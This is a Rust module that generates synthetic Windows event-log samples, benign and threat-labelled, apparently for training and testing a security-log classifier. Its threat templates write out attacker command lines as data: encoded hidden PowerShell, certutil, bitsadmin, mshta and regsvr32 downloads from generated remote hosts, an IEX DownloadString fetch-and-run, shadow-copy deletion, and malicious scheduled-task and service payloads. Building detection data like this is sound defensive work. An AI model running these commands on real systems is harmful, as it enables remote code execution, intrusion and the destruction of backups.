//! Generated Windows Security and System events in the `wevtutil qe /f:text` layout
//! (scripts/make-samples.py writes the same), rendered compactly by the windower: staff
//! logons, logoffs, admin privileges and ordinary processes as benign traffic; failed-logon
//! bursts, explicit credentials, suspicious processes, new tasks, services and accounts as
//! threats. The held-out file uses other hosts, accounts and addresses.

use super::{
    iso_time, join_lines, labels, public_ip, random_time, render_inputs, BuildConfig, Rng, Sample,
};

/// Hosts, accounts and addresses of one organisation.
#[derive(Debug, Clone, Copy)]
pub struct Pool {
    /// NetBIOS domain.
    pub domain: &'static str,
    /// DNS suffix of the hosts.
    pub dns: &'static str,
    /// Servers (domain controllers, file servers).
    pub servers: &'static [&'static str],
    /// Staff accounts.
    pub staff: &'static [&'static str],
    /// Administrator accounts.
    pub admins: &'static [&'static str],
    /// First three octets of the staff subnet.
    pub subnet: &'static str,
}

/// The organisation of the training windows.
pub const TRAIN_POOL: Pool = Pool {
    domain: "CORP",
    dns: "corp.example.com",
    servers: &["DC01", "DC02", "FS01", "APP01", "SQL01", "EXCH01"],
    staff: &[
        "alice",
        "bob",
        "carol",
        "dave",
        "erin",
        "frank",
        "grace",
        "heidi",
        "ivan",
        "judy",
        "mallory.k",
        "niaj",
        "olivia",
        "peggy",
        "rupert",
        "sybil",
    ],
    admins: &["adm-alice", "adm-ivan", "Administrator", "it.ops"],
    subnet: "10.0.1",
};

/// The organisation of the held-out windows: no host, account or subnet in common.
pub const HELDOUT_POOL: Pool = Pool {
    domain: "ACME",
    dns: "acme.local",
    servers: &["SRV-DC-A", "SRV-FILE2", "SRV-WEB3", "SRV-ERP"],
    staff: &[
        "t.nguyen",
        "m.garcia",
        "l.schmidt",
        "p.rossi",
        "k.tanaka",
        "j.okafor",
        "s.ivanova",
        "r.silva",
    ],
    admins: &["acme.admin", "sysadm2"],
    subnet: "172.20.8",
};

/// One event's header fields and description.
struct Event<'a> {
    time: i64,
    id: u32,
    task: &'a str,
    failure: bool,
    computer: String,
    description: String,
}

fn block(n: usize, e: &Event, millis: u64) -> String {
    let (log, source, keyword) = if e.id == 7045 {
        ("System", "Service Control Manager", "Classic")
    } else if e.failure {
        (
            "Security",
            "Microsoft-Windows-Security-Auditing",
            "Audit Failure",
        )
    } else {
        (
            "Security",
            "Microsoft-Windows-Security-Auditing",
            "Audit Success",
        )
    };
    [
        format!("Event[{n}]:"),
        format!("  Log Name: {log}"),
        format!("  Source: {source}"),
        format!("  Date: {}", iso_time(e.time, millis)),
        format!("  Event ID: {}", e.id),
        format!("  Task: {}", e.task),
        "  Level: Information".into(),
        "  Opcode: Info".into(),
        format!("  Keyword: {keyword}"),
        "  User: N/A".into(),
        "  User Name: N/A".into(),
        format!("  Computer: {}", e.computer),
        "  Description: ".into(),
        e.description.clone(),
        String::new(),
    ]
    .join("\n")
}

/// Renders events (sorted by time) as one wevtutil export and returns its windows.
fn render(rng: &mut Rng, mut events: Vec<Event>) -> Vec<String> {
    events.sort_by_key(|e| e.time);
    let first = rng.range(0, 4000) as usize;
    let blocks: Vec<String> = events
        .iter()
        .enumerate()
        .map(|(i, e)| block(first + i, e, rng.range(0, 999)))
        .collect();
    render_inputs("Security.txt", &join_lines(&blocks))
}

fn host(pool: &Pool, name: &str) -> String {
    format!("{name}.{}", pool.dns)
}

fn staff_ip(rng: &mut Rng, pool: &Pool) -> String {
    format!("{}.{}", pool.subnet, rng.range(10, 250))
}

fn workstation(account: &str) -> String {
    let short: String = account
        .chars()
        .filter(|c| c.is_ascii_alphanumeric())
        .take(8)
        .collect();
    format!("WS-{}", short.to_ascii_uppercase())
}

fn logon_id(rng: &mut Rng) -> String {
    format!("0x{:X}", rng.range(0x10000, 0xFFFFFF))
}

fn logon(rng: &mut Rng, pool: &Pool, account: &str, ip: &str, kind: u64) -> String {
    format!(
        "An account was successfully logged on.\n\nSubject:\n\tSecurity ID:\t\tS-1-5-18\n\tAccount Name:\t\t{server}$\n\tAccount Domain:\t\t{d}\n\nLogon Information:\n\tLogon Type:\t\t{kind}\n\nNew Logon:\n\tSecurity ID:\t\t{d}\\{account}\n\tAccount Name:\t\t{account}\n\tAccount Domain:\t\t{d}\n\tLogon ID:\t\t{id}\n\nNetwork Information:\n\tWorkstation Name:\t{ws}\n\tSource Network Address:\t{ip}\n\tSource Port:\t\t{port}",
        server = rng.pick(pool.servers),
        d = pool.domain,
        id = logon_id(rng),
        ws = workstation(account),
        port = rng.range(49152, 65535),
    )
}

fn failed_logon(pool: &Pool, account: &str, ip: &str, bad_user: bool) -> String {
    let sub = if bad_user { "0xC0000064" } else { "0xC000006A" };
    format!(
        "An account failed to log on.\n\nAccount For Which Logon Failed:\n\tSecurity ID:\t\tS-1-0-0\n\tAccount Name:\t\t{account}\n\tAccount Domain:\t\t{d}\n\nFailure Information:\n\tFailure Reason:\t\tUnknown user name or bad password.\n\tStatus:\t\t\t0xC000006D\n\tSub Status:\t\t{sub}\n\nNetwork Information:\n\tWorkstation Name:\t-\n\tSource Network Address:\t{ip}\n\tSource Port:\t\t0",
        d = pool.domain
    )
}

fn subject(pool: &Pool, account: &str, rng: &mut Rng) -> String {
    format!(
        "Subject:\n\tSecurity ID:\t\t{d}\\{account}\n\tAccount Name:\t\t{account}\n\tAccount Domain:\t\t{d}\n\tLogon ID:\t\t{id}",
        d = pool.domain,
        id = logon_id(rng)
    )
}

fn process(
    pool: &Pool,
    rng: &mut Rng,
    account: &str,
    image: &str,
    parent: &str,
    cmd: &str,
) -> String {
    format!(
        "A new process has been created.\n\nCreator {subj}\n\nProcess Information:\n\tNew Process ID:\t\t0x{pid:x}\n\tNew Process Name:\t{image}\n\tToken Elevation Type:\t%%1938\n\tCreator Process ID:\t0x{ppid:x}\n\tCreator Process Name:\t{parent}\n\tProcess Command Line:\t{cmd}",
        subj = subject(pool, account, rng),
        pid = rng.range(0x400, 0x3000),
        ppid = rng.range(0x400, 0x3000),
    )
}

fn random_token(rng: &mut Rng, len: usize, alphabet: &[u8]) -> String {
    (0..len)
        .map(|_| alphabet[rng.below(alphabet.len())] as char)
        .collect()
}

fn b64(rng: &mut Rng, len: usize) -> String {
    let s = random_token(
        rng,
        len,
        b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/",
    );
    format!("{s}AA==")
}

fn file_stem(rng: &mut Rng) -> String {
    let stems = [
        "upd", "setup", "report", "inv", "sync", "helper", "tmp", "a", "x64", "agent",
    ];
    format!("{}{}", rng.pick(&stems), rng.range(1, 999))
}

fn remote(rng: &mut Rng) -> String {
    if rng.chance(0.5) {
        public_ip(rng)
    } else {
        let names = [
            "cdn-static",
            "files-share",
            "update-service",
            "img-host",
            "dl-mirror",
        ];
        let tlds = ["net", "com", "top", "xyz", "info"];
        format!(
            "{}{}.{}",
            rng.pick(&names),
            rng.range(1, 99),
            rng.pick(&tlds)
        )
    }
}

/// (image, parent, command line) of a process that launches or fetches code as intruders do.
fn suspicious_process(rng: &mut Rng, account: &str) -> (String, String, String) {
    let ps = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe".to_string();
    let sys = |exe: &str| format!(r"C:\Windows\System32\{exe}");
    let parents = [
        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
        r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
        r"C:\Windows\explorer.exe",
        r"C:\Windows\System32\cmd.exe",
        r"C:\Windows\System32\wbem\WmiPrvSE.exe",
    ];
    let parent = rng.pick(&parents).to_string();
    let host = remote(rng);
    let stem = file_stem(rng);
    match rng.below(9) {
        0 => {
            let len = rng.range(40, 120) as usize;
            let enc = b64(rng, len);
            (ps.clone(), parent, format!("powershell.exe -nop -w hidden -enc {enc}"))
        }
        1 => (
            sys("certutil.exe"),
            parent,
            format!(r"certutil.exe -urlcache -split -f http://{host}/{stem}.exe C:\Users\Public\{stem}.exe"),
        ),
        2 => (
            sys("rundll32.exe"),
            parent,
            format!(r"rundll32.exe C:\Users\{account}\AppData\Local\Temp\{stem}.dll,DllRegisterServer"),
        ),
        3 => (
            sys("mshta.exe"),
            parent,
            format!("mshta.exe http://{host}/{stem}.hta"),
        ),
        4 => (
            sys("regsvr32.exe"),
            parent,
            format!("regsvr32.exe /s /n /u /i:http://{host}/{stem}.sct scrobj.dll"),
        ),
        5 => (
            sys("cmd.exe"),
            parent,
            r#"cmd.exe /c whoami /all & net group "domain admins" /domain & nltest /dclist:"#
                .to_string(),
        ),
        6 => (
            sys("vssadmin.exe"),
            parent,
            "vssadmin.exe delete shadows /all /quiet".to_string(),
        ),
        7 => (
            ps,
            parent,
            format!("powershell.exe -ExecutionPolicy Bypass -c \"IEX (New-Object Net.WebClient).DownloadString('http://{host}/{stem}.ps1')\""),
        ),
        _ => (
            sys("bitsadmin.exe"),
            parent,
            format!(r"bitsadmin /transfer job{n} /download /priority high http://{host}/{stem}.exe C:\Windows\Temp\{stem}.exe", n = rng.range(1, 99)),
        ),
    }
}

/// (image, parent, command line) of an ordinary desktop or server process.
fn ordinary_process(rng: &mut Rng, account: &str) -> (String, String, String) {
    let explorer = r"C:\Windows\explorer.exe".to_string();
    let choices: [(&str, String); 9] = [
        (
            r"C:\Program Files\Google\Chrome\Application\chrome.exe",
            r#""C:\Program Files\Google\Chrome\Application\chrome.exe""#.into(),
        ),
        (
            r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe",
            r#""C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --profile-directory=Default"#.into(),
        ),
        (
            r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
            r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE""#.into(),
        ),
        (
            r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
            format!(r#""C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" "C:\Users\{account}\Documents\budget-q{}.xlsx""#, rng.range(1, 4)),
        ),
        (
            r"C:\Windows\System32\notepad.exe",
            format!(r#""C:\Windows\System32\notepad.exe" C:\Users\{account}\Desktop\notes.txt"#),
        ),
        (
            r"C:\Users\Public\Teams\current\Teams.exe",
            r#""C:\Users\Public\Teams\current\Teams.exe" --system-initiated"#.into(),
        ),
        (
            r"C:\Windows\System32\mmc.exe",
            r#""C:\Windows\system32\mmc.exe" "C:\Windows\system32\compmgmt.msc""#.into(),
        ),
        (
            r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            r#"powershell.exe -NoProfile -File C:\Scripts\Get-DiskReport.ps1"#.into(),
        ),
        (
            r"C:\Windows\System32\mstsc.exe",
            format!(r#""C:\Windows\system32\mstsc.exe" /v:APP0{}"#, rng.range(1, 4)),
        ),
    ];
    let (image, cmd) = rng.pick(&choices).clone();
    (image.to_string(), explorer, cmd)
}

/// Which generated scenario.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Scenario {
    StaffSession,
    OrdinaryProcess,
    TypoThenLogon,
    FailedBurst,
    ExplicitCredentials,
    SuspiciousProcess,
    ScheduledTask,
    NewService,
    UserCreated,
}

impl Scenario {
    fn label(self) -> &'static str {
        match self {
            Scenario::StaffSession | Scenario::OrdinaryProcess | Scenario::TypoThenLogon => {
                labels::BENIGN
            }
            Scenario::FailedBurst => "Windows Threat: Failed Login",
            Scenario::ExplicitCredentials => "Windows Threat: Explicit Credential Logon",
            Scenario::SuspiciousProcess => "Windows Threat: Process Creation — Suspicious",
            Scenario::ScheduledTask => "Windows Threat: Scheduled Task Created",
            Scenario::NewService => "Windows Threat: New Service Installed",
            Scenario::UserCreated => "Windows Threat: User Account Created",
        }
    }
}

/// Base counts at scale 1.0.
const COUNTS: [(Scenario, usize); 9] = [
    (Scenario::StaffSession, 110),
    (Scenario::OrdinaryProcess, 80),
    (Scenario::TypoThenLogon, 40),
    (Scenario::FailedBurst, 110),
    (Scenario::ExplicitCredentials, 70),
    (Scenario::SuspiciousProcess, 120),
    (Scenario::ScheduledTask, 60),
    (Scenario::NewService, 60),
    (Scenario::UserCreated, 50),
];

fn events(rng: &mut Rng, pool: &Pool, scenario: Scenario) -> Vec<Event<'static>> {
    let t0 = random_time(rng);
    let dc = host(pool, pool.servers[rng.below(pool.servers.len())]);
    let staff = rng.pick(pool.staff).to_string();
    let admin = rng.pick(pool.admins).to_string();
    let ev = |time: i64,
              id: u32,
              task: &'static str,
              failure: bool,
              computer: &str,
              description: String| Event {
        time,
        id,
        task,
        failure,
        computer: computer.to_string(),
        description,
    };
    match scenario {
        Scenario::StaffSession => {
            let is_admin = rng.chance(0.35);
            let account = if is_admin { admin } else { staff };
            let ip = staff_ip(rng, pool);
            let kind = *rng.pick(&[2, 3, 3, 3, 10, 11]);
            let mut out = vec![ev(
                t0,
                4624,
                "Logon",
                false,
                &dc,
                logon(rng, pool, &account, &ip, kind),
            )];
            if is_admin {
                let privs = "Privileges:\t\tSeSecurityPrivilege\n\t\t\tSeBackupPrivilege\n\t\t\tSeRestorePrivilege\n\t\t\tSeTakeOwnershipPrivilege\n\t\t\tSeDebugPrivilege";
                out.push(ev(
                    t0,
                    4672,
                    "Special Logon",
                    false,
                    &dc,
                    format!(
                        "Special privileges assigned to new logon.\n\n{}\n\n{privs}",
                        subject(pool, &account, rng)
                    ),
                ));
            }
            if rng.chance(0.6) {
                let t = t0 + rng.range(20, 280) as i64;
                out.push(ev(
                    t,
                    4634,
                    "Logoff",
                    false,
                    &dc,
                    format!(
                        "An account was logged off.\n\n{}\n\nLogon Type:\t\t\t{kind}",
                        subject(pool, &account, rng)
                    ),
                ));
            }
            out
        }
        Scenario::OrdinaryProcess => {
            let ws = host(pool, &workstation(&staff));
            (0..rng.range(1, 3))
                .map(|i| {
                    let (image, parent, cmd) = ordinary_process(rng, &staff);
                    let t = t0 + i as i64 * rng.range(5, 60) as i64;
                    ev(
                        t,
                        4688,
                        "Process Creation",
                        false,
                        &ws,
                        process(pool, rng, &staff, &image, &parent, &cmd),
                    )
                })
                .collect()
        }
        Scenario::TypoThenLogon => {
            let ip = staff_ip(rng, pool);
            let fails = rng.range(1, 2);
            let mut out: Vec<Event> = (0..fails)
                .map(|i| {
                    ev(
                        t0 + i as i64 * 4,
                        4625,
                        "Logon",
                        true,
                        &dc,
                        failed_logon(pool, &staff, &ip, false),
                    )
                })
                .collect();
            let t = t0 + fails as i64 * 4 + rng.range(3, 20) as i64;
            out.push(ev(
                t,
                4624,
                "Logon",
                false,
                &dc,
                logon(rng, pool, &staff, &ip, 2),
            ));
            out
        }
        Scenario::FailedBurst => {
            let ip = if rng.chance(0.7) {
                public_ip(rng)
            } else {
                staff_ip(rng, pool)
            };
            let targets = [
                "Administrator",
                "admin",
                "administrator",
                "backup",
                "scanner",
                "test",
                "guest",
            ];
            let spray = rng.chance(0.4);
            let n = rng.range(4, 9);
            let mut t = t0;
            (0..n)
                .map(|_| {
                    t += rng.range(0, 6) as i64;
                    let (account, bad) = if spray {
                        if rng.chance(0.5) {
                            (rng.pick(pool.staff).to_string(), false)
                        } else {
                            (rng.pick(&targets).to_string(), true)
                        }
                    } else {
                        (
                            if rng.chance(0.5) {
                                "Administrator".to_string()
                            } else {
                                staff.clone()
                            },
                            false,
                        )
                    };
                    ev(
                        t,
                        4625,
                        "Logon",
                        true,
                        &dc,
                        failed_logon(pool, &account, &ip, bad),
                    )
                })
                .collect()
        }
        Scenario::ExplicitCredentials => {
            let ip = staff_ip(rng, pool);
            let server = host(pool, pool.servers[rng.below(pool.servers.len())]);
            let tools = [
                r"C:\Windows\System32\runas.exe",
                r"C:\Windows\System32\cmd.exe",
                r"C:\Users\Public\svchost.exe",
                r"C:\Windows\System32\wbem\WMIC.exe",
            ];
            let tool = rng.pick(&tools);
            let desc = format!(
                "A logon was attempted using explicit credentials.\n\n{}\n\nAccount Whose Credentials Were Used:\n\tAccount Name:\t\t{admin}\n\tAccount Domain:\t\t{d}\n\nTarget Server:\n\tTarget Server Name:\t{server}\n\nProcess Information:\n\tProcess ID:\t\t0x{:x}\n\tProcess Name:\t\t{tool}\n\nNetwork Information:\n\tNetwork Address:\t{ip}\n\tPort:\t\t\t{}",
                subject(pool, &staff, rng),
                rng.range(0x400, 0x3000),
                rng.range(445, 445),
                d = pool.domain,
            );
            vec![ev(t0, 4648, "Logon", false, &dc, desc)]
        }
        Scenario::SuspiciousProcess => {
            let ws = host(pool, &workstation(&staff));
            let (image, parent, cmd) = suspicious_process(rng, &staff);
            vec![ev(
                t0,
                4688,
                "Process Creation",
                false,
                &ws,
                process(pool, rng, &staff, &image, &parent, &cmd),
            )]
        }
        Scenario::ScheduledTask => {
            let names = [
                r"\Microsoft\Windows\UpdateCheck",
                r"\OneDriveSyncHelper",
                r"\GoogleUpdaterCore",
                r"\Microsoft\Windows\Maintenance\SysCleanup",
                r"\AdobeSyncTask",
            ];
            let host_ = remote(rng);
            let stem = file_stem(rng);
            let action = match rng.below(3) {
                0 => format!("<Exec><Command>powershell.exe</Command><Arguments>-nop -w hidden -enc {}</Arguments></Exec>", b64(rng, 60)),
                1 => format!(r"<Exec><Command>C:\Users\Public\{stem}.exe</Command></Exec>"),
                _ => format!("<Exec><Command>cmd.exe</Command><Arguments>/c certutil -urlcache -f http://{host_}/{stem}.exe %TEMP%\\{stem}.exe</Arguments></Exec>"),
            };
            let desc = format!(
                "A scheduled task was created.\n\n{}\n\nTask Information:\n\tTask Name:\t\t{}\n\tTask Content:\t\t{action}",
                subject(pool, &admin, rng),
                rng.pick(&names)
            );
            vec![ev(t0, 4698, "Other Object Access Events", false, &dc, desc)]
        }
        Scenario::NewService => {
            let names = [
                "NetSvcHelper",
                "PSEXESVC",
                "RemoteUpdateSvc",
                "WinSysMon",
                "UpdaterSvc",
            ];
            let stem = file_stem(rng);
            let file = match rng.below(3) {
                0 => format!(r"C:\Windows\Temp\{stem}.exe"),
                1 => r"%SystemRoot%\PSEXESVC.exe".to_string(),
                _ => format!(
                    "%COMSPEC% /b /c start /b /min powershell -nop -w hidden -enc {}",
                    b64(rng, 48)
                ),
            };
            let desc = format!(
                "A service was installed in the system.\n\nService Name:  {}\nService File Name:  {file}\nService Type:  user mode service\nService Start Type:  auto start\nService Account:  LocalSystem",
                rng.pick(&names)
            );
            vec![ev(t0, 7045, "None", false, &dc, desc)]
        }
        Scenario::UserCreated => {
            let names = [
                "svc-backup2",
                "helpdesk01",
                "support",
                "adm-tmp",
                "sqlsvc2",
                "it-temp",
            ];
            let desc = format!(
                "A user account was created.\n\n{}\n\nNew Account:\n\tSecurity ID:\t\t{d}\\{new}\n\tAccount Name:\t\t{new}\n\tAccount Domain:\t\t{d}",
                subject(pool, &admin, rng),
                d = pool.domain,
                new = rng.pick(&names)
            );
            vec![ev(t0, 4720, "User Account Management", false, &dc, desc)]
        }
    }
}

/// Windows-event windows of every scenario, `pool`'s hosts and accounts, drawn from `rng`.
pub fn generate(cfg: &BuildConfig, rng: &mut Rng, pool: &Pool) -> Vec<Sample> {
    let mut out = Vec::new();
    for (scenario, base) in COUNTS {
        for _ in 0..cfg.count(base) {
            let evs = events(rng, pool, scenario);
            for input in render(rng, evs) {
                out.push(Sample::new(input, scenario.label(), "windows"));
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn events_render_compactly_with_their_ids() {
        let mut rng = Rng::new(3);
        let evs = events(&mut rng, &TRAIN_POOL, Scenario::FailedBurst);
        let n = evs.len();
        let w = render(&mut rng, evs);
        assert_eq!(w.len(), 1, "{w:?}");
        // Events of one template are written once with their count (`[×n] EventID: 4625`).
        let failures: usize = w[0]
            .lines()
            .map(opensoc::task::prompt::repeat_count)
            .filter(|(_, line)| *line == "EventID: 4625")
            .map(|(k, _)| k)
            .sum();
        assert_eq!(failures, n, "{}", w[0]);
        assert!(w[0].contains("failed logins"), "{}", w[0]);
        let evs = events(&mut rng, &TRAIN_POOL, Scenario::SuspiciousProcess);
        let w = render(&mut rng, evs);
        assert!(w[0].starts_with("EventID: 4688\n"), "{}", w[0]);
        assert!(w[0].contains("Detail: "), "{}", w[0]);
        let evs = events(&mut rng, &TRAIN_POOL, Scenario::NewService);
        let w = render(&mut rng, evs);
        assert!(w[0].contains("EventID: 7045"), "{}", w[0]);
    }
}
